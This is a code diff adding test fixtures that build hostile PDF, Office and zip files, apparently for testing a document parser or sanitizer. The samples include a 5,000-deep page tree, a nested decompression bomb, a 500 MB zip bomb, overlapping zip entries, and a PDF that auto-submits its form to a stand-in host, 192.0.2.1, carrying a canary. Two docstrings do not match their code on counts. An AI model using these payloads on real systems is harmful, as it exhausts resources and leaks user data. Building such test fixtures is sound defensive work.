@@ -3,6 +3,7 @@
 import stat
 import struct
 import zipfile
+import zlib
 from io import BytesIO
 
 import pikepdf
@@ -129,6 +130,69 @@ def slow_to_draw() -> bytes:
         made, b"0 0 595 842 re 10 10 500 800 re W* n\n" + b"0 0 m 595 842 l 9 w S\n" * 60_000
     )
     return _saved(made, compress_streams=True, recompress_flate=True)
+
+
+def deep_tree_of_pages() -> bytes:
+    """A tree of pages five thousand branches deep, with one page at its end."""
+    deep = 5_000
+    parts = [b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"]
+    for number in range(2, deep + 2):
+        parts.append(
+            f"{number} 0 obj<</Type/Pages/Count 1/Kids[{number + 1} 0 R]>>endobj\n".encode()
+        )
+    parts.append(f"{deep + 2} 0 obj<</Type/Page/MediaBox[0 0 99 99]>>endobj\n".encode())
+    return b"".join(parts) + b"trailer<</Root 1 0 R>>\n%%EOF"
+
+
+def of_many_pages() -> bytes:
+    """Ten thousand pages, all of them one page."""
+    return (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
+            b"2 0 obj<</Type/Pages/Count 10000/Kids[" + b"3 0 R " * 10_000 + b"]>>endobj\n"
+            b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj\n"
+            b"trailer<</Root 1 0 R>>\n%%EOF")  # fmt: skip
+
+
+def filters_within_filters() -> bytes:
+    """A page whose drawing is packed a hundred times over, and grows with each."""
+    data = b"0 0 m 9 9 l S\n" * 2_000_000
+    for _ in range(3):
+        data = zlib.compress(data, 9)
+    made = _new()
+    made.pages[0].Contents = made.make_stream(data)
+    made.pages[0].Contents.Filter = Array([Name.FlateDecode] * 3)
+    return _saved(made, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
+
+
+def submits_and_hides() -> bytes:
+    """A form that sends itself off, hidden layers, a film, and a link of the old kind (GoToE)."""
+    made = _new()
+    sends = Dictionary(S=Name.SubmitForm, F=String(f"https://192.0.2.1/{CANARY}"), Flags=4)
+    goes = Dictionary(S=Name.GoToE, F=String(f"//192.0.2.1/{CANARY}"), D=String(CANARY))
+    film = made.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Screen, T=String(CANARY), A=goes,
+                                         Rect=Array([0, 0, 9, 9])))  # fmt: skip
+    made.pages[0].Annots = Array([film])
+    made.Root.AA = Dictionary(WC=sends, WS=sends, DP=sends)
+    made.Root.OCProperties = Dictionary(OCGs=Array([]), D=Dictionary(Name=String(CANARY)))
+    made.Root.URI = Dictionary(Base=String(f"file:///{CANARY}"))
+    return _saved(made)
+
+
+def office_bomb() -> bytes:
+    """A paper of an office that grows to half a thousand million letters."""
+    return zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"A" * 500_000_000,
+                   "notes.txt": CHAT.encode()})  # fmt: skip
+
+
+def overlapping() -> bytes:
+    """A zip file whose thousand entries are one and the same place in it."""
+    made = zipped({"_chat.txt": b"a" * 1_000_000})
+    place = made.index(b"PK\x01\x02")
+    end = made.index(b"PK\x05\x06")
+    entry = made[place:end]
+    many = 4_000
+    directory = entry * many
+    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, many, many, len(directory), place, 0)
+    return made[:place] + directory + tail
 
 
 # Zip files
